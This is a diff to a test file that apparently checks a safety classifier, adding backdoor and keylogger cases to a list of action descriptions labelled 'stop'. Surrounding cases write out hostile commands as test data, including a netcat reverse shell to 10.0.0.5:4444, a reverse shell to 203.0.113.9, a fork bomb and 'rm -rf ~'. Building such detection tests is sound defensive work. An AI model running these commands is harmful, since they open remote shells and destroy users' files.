@@ -30,6 +30,8 @@ CASES = [
     # the same words with an act that makes or runs what is named
     ("Opening a reverse shell to 203.0.113.9:4444 to debug the box.", "stop"),
     ("Testing the fork bomb in the CI container.", "stop"),
+    ("Checking the backdoor still works by connecting to it", "stop"),
+    ("Verifying the keylogger is capturing input", "stop"),
     ("checking that nc -e /bin/sh 10.0.0.5 4444 connects", "stop"),
     ("Searching for `rm -rf ~` in the history, then running `rm -rf ~`.", "stop"),
     ("Searching the logs for errors, then running `rm -rf ~`.", "stop"),
